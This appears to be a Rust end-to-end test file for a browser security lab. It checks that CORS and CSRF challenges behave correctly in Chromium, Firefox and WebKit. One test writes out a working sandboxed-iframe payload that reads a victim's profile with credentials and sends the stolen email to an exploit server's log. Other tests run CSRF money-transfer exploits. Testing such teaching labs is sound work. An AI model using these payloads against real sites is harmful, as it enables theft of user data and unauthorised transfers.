//! The challenges whose lesson differs by engine, played through the page in each of them
//! (`cargo xtask test` runs this module in Chromium, Firefox and WebKit): what the page says
//! for this engine, and what this engine lets happen.

use std::time::Duration;

use e2e::Lab;
use shared::challenge::ChallengeId;

use crate::attacks::{
    last_seq, logged, open_as_victim, own_transfer, run_attack_page, run_transfer_exploit, same_site, send, solved, start, stays_open, store_exploit,
    transfer_exploit, victim_logs_in,
};

/// The challenges that start with `SameSite=None; Secure`: the page says what this engine needs
/// for the victim's login to stick, and the person does it. An engine that keeps a `Secure`
/// cookie set over `http://localhost` is told nothing; one that drops it is told to switch
/// Secure off (and keeps `SameSite=None` without it), which the person does in the cookie
/// settings. Hands back whether Secure was switched off.
async fn follow_the_secure_cookie_note(lab: &Lab) -> bool {
    let b = &lab.browser;
    let engine = b.engine;
    if engine.cookie_facts().keeps_secure_on_http_localhost {
        assert_eq!(b.text("[data-note='secure-cookie']").await, "", "{engine:?} keeps a Secure cookie on http://localhost");
        return false;
    }
    b.wait_text("[data-note='secure-cookie']", |t| t.contains("Switch Secure off")).await;
    b.set_checked("#cookie-secure", false).await;
    lab.control_wait("/control/cookie", |c| c["secure"] == false && c["same_site"] == "None").await;
    true
}

/// Trusted `null`: the exploit page frames a sandboxed document (its origin opaque, its
/// requests `Origin: null`) that reads the victim's profile and reports to the exploit server.
/// The policy trusts `null` with credentials, so the answer is readable there; whether the
/// victim's cookie goes with the frame's request is the engine's call. Chromium and Firefox
/// count a sandboxed frame's request as third-party and, in their test settings, send no
/// cookie with it, whatever `SameSite=None` says (measured); WebKit sends it
/// (`CookieFacts::sends_none_cross_site`), once the cookie is kept at all: it drops a Secure
/// cookie set over `http://localhost`, so the page tells the person to switch Secure off.
#[tokio::test]
async fn trusted_null_is_solved_through_a_sandboxed_frame_where_the_engine_sends_it_the_cookie() {
    let lab = Lab::opened().await;
    let b = &lab.browser;
    let engine = b.engine;
    let id = ChallengeId::TrustedNull;
    start(&lab, id).await;

    let facts = engine.cookie_facts();
    follow_the_secure_cookie_note(&lab).await;
    victim_logs_in(&lab).await;
    assert_eq!(send(&lab, "#profile-cookie").await, "200 OK", "the victim's cookie was kept");

    // The frame reports the status it read and the email, if any, to the exploit server by its
    // full address (a relative URL means nothing in an opaque origin).
    let log = format!("http://localhost:{}/log", lab.backend.site_addr.port());
    let exploit = format!(
        r#"<iframe sandbox="allow-scripts" srcdoc="<script>fetch('{api}/api/profile', {{credentials: 'include'}}).then(r => r.json().then(b => fetch('{log}?status=' + r.status + '&stolen=' + encodeURIComponent(b.user ? b.user.email : ''))));</script>"></iframe>"#,
        api = lab.backend.api
    );
    store_exploit(&lab, &exploit).await;
    let after = last_seq(&lab).await;
    // From the same site: the top page is the victim's own site, so only the frame is foreign.
    let playground = open_as_victim(&lab, "#exploit-open-same-site").await;
    b.switch_to(playground).await;
    let read = logged(&lab, after, "the frame's profile read", |e| e.path == "/api/profile" && !e.preflight && e.origin.as_deref() == Some("null")).await;
    let report = b.wait_text("#exploit-log li", |t| t.contains("/log?status=")).await;
    assert!(report.contains("Origin: null"), "the report came from the sandboxed frame: {report}");

    if facts.sends_none_cross_site {
        assert!(read.credentials.has_session(), "{engine:?} sends the cookie with the frame's read: {read:?}");
        assert!(report.contains("/log?status=200&stolen=a%40b.com"), "{report}");
        let proof = solved(&lab, id).await;
        assert_eq!(proof.entries, [read.seq]);
    } else {
        assert!(!read.credentials.has_session(), "{engine:?} keeps the cookie from a sandboxed frame's read: {read:?}");
        assert_eq!(read.status, 401, "{read:?}");
        // The policy let the frame read the refusal: nobody's email in it.
        assert!(report.contains("/log?status=401&stolen=") && !report.contains("a%40b.com"), "{report}");
        stays_open(&lab, id, &format!("the frame's read #{} without the cookie", read.seq)).await;
    }
    lab.browser.close().await;
}

/// One preflight for two bearer reads more than 6 s apart, which only the policy's max age
/// explains (without it every engine keeps a preflight's answer about 5 s). Each engine caps
/// the max age, and the page says this engine's cap; a minute is under every cap. The wait is
/// the scenario.
#[tokio::test]
async fn one_preflight_is_kept_by_this_engines_cache_under_the_pages_max_age() {
    let lab = Lab::opened().await;
    let b = &lab.browser;
    let engine = b.engine;
    let id = ChallengeId::OnePreflight;
    start(&lab, id).await;
    b.wait_text("[data-note='preflight-cache']", |t| t.contains(engine.max_age_cap_words())).await;
    assert!(engine.max_age_cap() >= 60, "{engine:?} keeps a minute");

    b.click("#policy details.editor summary").await;
    b.fill("#policy-max-age", "60").await;
    b.click("#policy-apply").await;
    lab.control_wait("/control/cors", |p| p["max_age"] == 60).await;
    assert_eq!(send(&lab, "#get-token").await, "200 OK");
    b.set_checked("#req-bearer", true).await;
    assert_eq!(send(&lab, "#send").await, "200 OK");
    tokio::time::sleep(Duration::from_millis(6_500)).await;
    assert_eq!(send(&lab, "#send-again").await, "200 OK");

    let proof = solved(&lab, id).await;
    let log = lab.server_log().await;
    let preflights: Vec<u64> = log.iter().filter(|e| e.preflight && e.path == "/api/profile").map(|e| e.seq).collect();
    assert_eq!(preflights.len(), 1, "{engine:?}: one preflight for both reads: {preflights:?}, proof {proof:?}");
    lab.browser.close().await;
}

/// Move the money: `SameSite=None; Secure` and no defense, so a page of another origin moves
/// the victim's money with a simple request. Played from the same-site attacker in every
/// engine: Chromium and Firefox block third-party cookies in their test profiles, so the
/// cross-site one would carry no cookie. WebKit drops the `Secure` cookie set over
/// `http://localhost`, and the page's note says so: the login does not stick and the attack
/// comes without the cookie (the challenge stays open) until Secure is switched off, as the
/// note says. The note is shown exactly where the engine drops the cookie.
#[tokio::test]
async fn move_the_money_is_solved_by_the_same_site_exploit_once_this_engine_keeps_the_victims_cookie() {
    let lab = Lab::opened().await;
    let b = &lab.browser;
    let engine = b.engine;
    let id = ChallengeId::MoveTheMoney;
    start(&lab, id).await;
    let facts = engine.cookie_facts();
    store_exploit(&lab, &transfer_exploit(&lab)).await;

    if !facts.keeps_secure_on_http_localhost {
        // Before following the note: the victim logs in, but the Secure cookie is not kept,
        // so the exploit's transfer comes without it and moves nothing.
        b.wait_text("[data-note='secure-cookie']", |t| t.contains("drops a Secure cookie set over http://localhost")).await;
        victim_logs_in(&lab).await;
        assert!(send(&lab, "#profile-cookie").await.starts_with("401"), "{engine:?} kept no Secure cookie set over http://localhost");
        let (refused, story) = run_transfer_exploit(&lab, "#exploit-open-same-site", &same_site(&lab)).await;
        assert!(!refused.credentials.has_session() && refused.status == 401, "{refused:?}: {story}");
        assert!(story.contains("Nothing happened") && story.contains("drops a Secure cookie set over http://"), "{story}");
        stays_open(&lab, id, &format!("the attack #{} with Secure on, which {engine:?} dropped", refused.seq)).await;
    }
    let switched_off = follow_the_secure_cookie_note(&lab).await;
    assert_eq!(switched_off, !facts.keeps_secure_on_http_localhost, "{engine:?}: the note is shown exactly where the Secure cookie is dropped");
    victim_logs_in(&lab).await;
    assert_eq!(send(&lab, "#profile-cookie").await, "200 OK", "{engine:?} kept the victim's cookie");

    let (attack, story) = run_transfer_exploit(&lab, "#exploit-open-same-site", &same_site(&lab)).await;
    assert!(attack.credentials.has_session() && story.contains("The transfer RAN"), "{attack:?}: {story}");
    let proof = solved(&lab, id).await;
    assert_eq!(proof.entries, [attack.seq]);
    b.wait_text("#accounts .account[data-email='a@b.com'] .balance", |t| t == "900").await;
    lab.browser.close().await;
}

/// The token that stops it: with `SameSite=None; Secure` (and the policy allowing
/// X-CSRF-Token) the CSRF token defense refuses the same-site attacker, which carries the
/// cookie, and the cross-site one, while the playground reads its token and transfers.
/// The cross-site attacker carries the cookie only where the engine sends a `SameSite=None`
/// cookie to another site (WebKit): there the token is what refuses it; in Chromium and
/// Firefox it comes without one. In WebKit, Secure off first, as the page's note says.
#[tokio::test]
async fn the_token_that_stops_it_is_solved_with_the_csrf_token_defense_in_this_engine() {
    let lab = Lab::opened().await;
    let b = &lab.browser;
    let engine = b.engine;
    let id = ChallengeId::TheTokenThatStopsIt;
    start(&lab, id).await;
    let facts = engine.cookie_facts();
    follow_the_secure_cookie_note(&lab).await;
    victim_logs_in(&lab).await;
    assert_eq!(send(&lab, "#profile-cookie").await, "200 OK", "{engine:?} kept the victim's cookie");

    b.set_checked("#defense-csrf-token", true).await;
    lab.control_wait("/control/defenses", |d| d["csrf_token"] == true).await;
    let said = own_transfer(&lab).await;
    assert!(said.contains("GET /api/csrf-token → 200 OK") && said.contains("POST /api/transfer with X-CSRF-Token → 200 OK"), "{said}");
    let (same, story) = run_attack_page(&lab, "#attack-same-site").await;
    assert!(same.credentials.has_session() && story.contains("the CSRF token defense refused it"), "{same:?}: {story}");
    let (cross, story) = run_attack_page(&lab, "#attack-cross-site").await;
    if facts.sends_none_cross_site {
        assert!(cross.credentials.has_session() && story.contains("the CSRF token defense refused it"), "{engine:?} sends the cookie to the other site: {cross:?}: {story}");
    } else {
        assert!(!cross.credentials.has_session() && story.contains("Nothing happened"), "{engine:?} keeps the cookie from the other site: {cross:?}: {story}");
    }

    let proof = solved(&lab, id).await;
    let own = logged(&lab, 0, "the playground's transfer", |e| e.path == "/api/transfer" && !e.preflight && e.status == 200).await;
    assert_eq!(proof.entries, [same.seq, cross.seq, own.seq]);
    b.wait_text("#accounts .account[data-email='a@b.com'] .balance", |t| t == "990").await;
    lab.browser.close().await;
}
